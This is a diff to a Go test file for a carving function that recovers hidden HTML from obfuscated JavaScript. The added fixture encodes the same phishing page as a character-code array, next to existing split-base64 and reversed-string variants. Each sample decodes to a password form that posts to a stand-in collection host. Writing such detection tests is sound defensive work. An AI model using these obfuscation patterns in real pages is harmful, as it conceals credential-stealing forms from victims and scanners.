@@ -118,7 +118,8 @@ func TestShape(t *testing.T) {
 
 func TestCarve(t *testing.T) {
 	const b64 = "PGh0bWw+PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPjwvaHRtbD4="
-	for _, src := range []string{"var a='" + b64[:40] + "';var a='" + b64[40:] + "';document.write(atob(a+a", "var x='" + reversed(b64) + "' +"} {
+	for _, src := range []string{"var a='" + b64[:40] + "';var a='" + b64[40:] + "';document.write(atob(a+a", "var x='" + reversed(b64) + "' +",
+		"var c=[" + codesOf(`<html><form action="https://gate.example/p.php"><input type=password></form><p>padding to be long enough</p></html>`, 8) + "];var c='';"} {
 		w := Carve([]Source{{Text: src}})
 		if len(w) != 1 || !strings.Contains(w[0].Text, "https://gate.example/p.php") {
 			t.Errorf("%.40q: %+v", src, w)
